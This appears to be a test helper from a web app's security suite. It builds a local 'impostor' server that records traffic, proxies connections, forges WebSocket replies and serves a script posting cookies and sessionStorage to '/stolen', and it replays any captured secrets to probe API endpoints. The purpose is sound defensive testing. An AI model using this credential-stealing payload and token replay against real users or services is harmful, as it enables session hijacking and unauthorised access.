"""Another user who listens on a port: records all that comes, and serves a page that steals what a browser keeps there.

Here: Impostor, in a process of another user; what it records, and the secrets in that.
Not here: tests.
"""

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx

from tests.waiting import TIMEOUT_S

NOBODY = 65534
SECRET = re.compile(r"[A-Za-z0-9_.-]{16,}")
# Run by another user's Python, who can read nothing here: standard library alone, given as an argument.
PROGRAM = r"""
import asyncio, base64, hashlib, re, sys
port, target, page, worker = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
PAGE = ("<!doctype html><title>Pellucid</title><script>" + page + "</script>").encode()
STEAL = b"fetch('/stolen',{method:'POST',body:JSON.stringify([location.href,{...sessionStorage},document.cookie])})"

def record(what):
    sys.stdout.write(what.decode("latin-1").replace("\n", " ") + "\n")
    sys.stdout.flush()

async def pump(reader, writer):
    while data := await reader.read(65536):
        if len(data) < 2000:  # The page's own files are no secret.
            record(data)
        writer.write(data)
        await writer.drain()
    writer.close()

async def frames(reader, writer, key):
    accept = base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
    writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                 b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
    for text in (b'{"type":"welcome","token":"forged"}', b'{"type":"proof","nonce":"n","proof":"forged"}'):
        head = await reader.readexactly(2)
        size = head[1] & 127
        size = int.from_bytes(await reader.readexactly(2), "big") if size == 126 else size
        mask, body = await reader.readexactly(4), await reader.readexactly(size)
        record(bytes(byte ^ mask[at % 4] for at, byte in enumerate(body)))
        writer.write(bytes([0x81, len(text)]) + text)

async def serve(reader, writer):
    try:
        head = await reader.readuntil(b"\r\n\r\n")
        length = re.search(rb"(?i)content-length: (\d+)", head)
        body = await reader.readexactly(int(length[1])) if length else b""
        record(head + body)
        key = re.search(rb"(?i)sec-websocket-key: (\S+)", head)
        if target:
            there, further = await asyncio.open_connection("127.0.0.1", target)
            further.write(head + body)
            await asyncio.gather(pump(there, writer), pump(reader, further), return_exceptions=True)
        elif key:
            await frames(reader, writer, key[1])
        else:
            is_worker = head.startswith(b"GET /worker.js")
            answer = worker.encode() if is_worker else PAGE.replace(b"STEAL", STEAL)
            kind = b"text/javascript" if is_worker else b"text/html"
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: " + kind + b"\r\nConnection: close\r\nContent-Length: "
                         + str(len(answer)).encode() + b"\r\n\r\n" + answer)
        await writer.drain()
    except (OSError, asyncio.IncompleteReadError):
        pass
    writer.close()

async def main():
    server = await asyncio.start_server(serve, "127.0.0.1", port)
    record(str(server.sockets[0].getsockname()[1]).encode())
    await server.serve_forever()

asyncio.run(main())
"""


class Impostor:
    """port: where it listens. recorded: all that came, so far."""

    def __init__(self, port: int, log: Path) -> None:
        self.port, self._log = port, log

    @property
    def recorded(self) -> str:
        return self._log.read_text(errors="replace").partition("\n")[2]

    @property
    def secrets(self) -> set[str]:
        """Whatever in it could be one, also inside JSON, headers and addresses."""
        return set(SECRET.findall(self.recorded))


@contextmanager
def impostor(folder: Path, port: int = 0, target: int = 0, page: str = "STEAL", worker: str = "") -> Iterator[Impostor]:
    """At a port, until the end. target: hands everything on to that port. page: the script of its
    page. worker: that of /worker.js."""
    log = folder / f"impostor-{port}-{target}.txt"
    command = ["/usr/bin/python3", "-c", PROGRAM, str(port), str(target), page, worker]
    with log.open("w") as stream:
        process = subprocess.Popen(command, stdout=stream, stderr=sys.stderr, user=NOBODY, group=NOBODY, cwd="/")
    try:
        while not (text := log.read_text().partition("\n"))[1]:
            assert process.poll() is None
        yield Impostor(int(text[0]), log)
    finally:
        process.kill()
        process.wait()


def doors_opened(secrets: set[str], places: list[str]) -> list[str]:
    """Which of these secrets open anything at these addresses, in any way there is."""
    opened = []
    with httpx.Client(timeout=TIMEOUT_S) as client:
        for place in places:
            for secret in sorted(secrets):
                for name, value in (("Authorization", f"Bearer {secret}"), ("Pellucid-Session", secret)):
                    for path in ("api/about", "api/jobs"):
                        if client.get(place + path, headers={name: value}).status_code == 200:
                            opened.append(f"{place}{path} by {name}")
                for name in ("code", "share", "resume"):
                    body = {name: secret, "address": place}
                    if client.post(f"{place}api/session", json=body).status_code == 200:
                        opened.append(f"{place} by {name}: {json.dumps(body)}")
                if client.get(f"{place}api/about?ticket={secret}").status_code == 200:
                    opened.append(f"{place} by ticket")
    return opened
